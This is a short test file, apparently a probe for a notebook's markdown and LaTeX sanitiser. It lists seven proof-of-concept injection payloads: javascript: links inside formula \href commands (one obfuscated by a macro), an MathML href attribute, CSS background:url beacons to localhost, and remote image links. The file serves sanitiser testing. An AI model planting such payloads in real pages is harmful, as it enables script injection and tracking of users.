# Tries: Formulas that the browser makes into links with a script, or styles that load a picture from elsewhere.
# Trace: in the feedback page: a formula with a command for links, styles or attributes, or a picture from elsewhere
# Wins against: stock
# %% notebook
markdown(
    r"$\href{javascript:alert('OWNED-link_in_a_formula')}{\text{your mark}}$",
    r"$\def\x#1{\href{java#1alert('OWNED-link_in_a_formula')}{\text{your mark}}}\x{script:}$",
    r"$$\mmlToken{mi}[href=\"javascript:alert('OWNED-link_in_a_formula')\"]{x}$$",
    r"$\bbox[background:url(http://127.0.0.1/OWNED-link_in_a_formula)]{x}$",
    r"\\(\\style{background:url(http://127.0.0.1/OWNED-link_in_a_formula)}{x}\\)",
    "![plot](http://127.0.0.1/OWNED-link_in_a_formula.png)",
    "![plot][1]\n\n[1]: http://127.0.0.1/OWNED-link_in_a_formula.png",
)
